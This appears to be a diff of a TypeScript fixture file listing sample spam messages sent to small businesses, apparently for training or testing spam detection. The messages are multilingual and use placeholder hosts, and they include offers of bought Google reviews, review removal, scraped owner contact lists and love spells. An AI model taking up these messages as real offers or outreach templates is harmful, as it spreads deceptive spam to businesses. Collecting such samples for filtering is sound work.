-    'plumber',
-    'George',
-    'george@brokerage.example',
-    'Have you thought about selling your business? We have buyers looking for plumbing companies in Yorkshire. Confidential valuation, no fees until sale.',
-  ],
   [
     'restaurant',
     'Nathalie',
     'nathalie@influence.example',
     'Bonjour, je suis influenceuse (85k abonnés). Je propose une publication en échange de 400 €. Voici mon média kit : https://nathalie.example/kit',
-  ],
-  [
-    'plumber',
-    'Ella',
-    'ella@uniforms.example',
-    'We supply branded workwear to trades across the UK. Free logo set up on orders over £150. Shall I send samples and our brochure?',
-  ],
-  [
-    'hairdresser',
-    'Firmenauskunft',
-    'eintrag@branchen.example',
-    'Ihr kostenloser Brancheneintrag läuft ab. Bitte bestätigen Sie Ihre Daten, Premium-Eintrag nur 39 € im Monat: https://branchen.example',
   ],
   [
     'yoga',
@@ -924,40 +296,10 @@ export const spam: readonly Post[] = [
     'Somos una plataforma con miles de usuarios y queremos incluir tu centro. Alta gratuita y comisión del 15%. Regístrate en https://colabora.example',
   ],
   [
-    'dentist',
-    'Formazione',
-    'corsi@ecm.example',
-    'Corso ECM online 50 crediti a 99 €. Ultimi posti disponibili! Iscriviti ora https://ecm.example',
-  ],
-  [
-    'piano',
-    '홍보대사',
-    'partner@app.example',
-    '저희 앱에 무료로 입점하시고 수강생을 늘려보세요. 수수료 0%! 지금 가입 https://app-kr.example',
-  ],
-  [
     'carpenter',
     '求人サイト',
     'job@kyujin.example',
     '求人広告を今だけ無料で掲載できます。人手不足を解決しませんか。お申し込みはこちら https://kyujin.example',
-  ],
-  [
-    'agency',
-    'Vishal',
-    'vishal@resource.example',
-    'Looking for dedicated PHP, React or WordPress developer on contract? We have resources available immediately at $12/hour with NDA. Please share your requirement.',
-  ],
-  [
-    'plumber',
-    'Claire',
-    'claire@reviews.example',
-    'Boost your reputation with real 5 star Google reviews. 10 reviews for $79, delivered within a week.',
-  ],
-  [
-    'photographer',
-    'Trustpilot Pro',
-    'stars@reviewshop.example',
-    'We remove bad reviews from Google permanently. Pay only after removal. Contact us today.',
   ],
   [
     'restaurant',
@@ -966,57 +308,15 @@ export const spam: readonly Post[] = [
     'Achetez des avis Google 5 étoiles, livraison rapide et discrète. Tarifs sur https://etoiles.example',
   ],
   [
-    'hairdresser',
-    'Bewertungen',
-    'sterne@bewertung.example',
-    'Google Bewertungen kaufen – 10 echte 5-Sterne-Bewertungen für 99 €. www.bewertung.example',
-  ],
-  [
-    'plumber',
-    'SMS Blast',
-    'sms@bulk.example',
-    'Bulk SMS and WhatsApp marketing, 10,000 messages for $50. Delivery report included. Reply to order.',
-  ],
-  [
     'agency',
     'Zoom Data',
     'leads@zoomdata.example',
     'Scraped 3 million Shopify stores with owner emails, phone, revenue. Price $200 whole list. Pay by crypto. Telegram @zoomdata',
   ],
   [
-    'dentist',
-    'Solar',
-    'solar@panels.example',
-    'Fotovoltaico gratis per la tua azienda con incentivi statali! Verifica se hai diritto: https://solare.example',
-  ],
-  [
-    'plumber',
-    'Solar UK',
-    'grants@solar.example',
-    'Government grants for free solar panels end this month. Check your eligibility in 30 seconds https://solar-grants.example',
-  ],
-  [
     'yoga',
     'Tarot',
     'tarot@vidente.example',
     'Amarres de amor efectivos en 24 horas. Vidente africano, pago después del resultado. WhatsApp +34 600 000 000',
-  ],
-  [
-    'restaurant',
-    'Marabout',
-    'maitre@retour.example',
-    'Grand maître marabout, retour de l’être aimé en 48h, résultat garanti. Appelez maintenant.',
-  ],
-  [
-    'photographer',
-    'NFT',
-    'nft@mint.example',
-    'Mint your photos as NFT and earn royalties forever. Whitelist closing soon. Join our Discord discord.gg/mintnow',
-  ],
-  [
-    'plumber',
-    'Insurance',
-    'cover@quotes.example',
-    'Save up to 40% on your van insurance today. Get a free quote in 2 minutes at vanquotes.example',
   ],
 ]
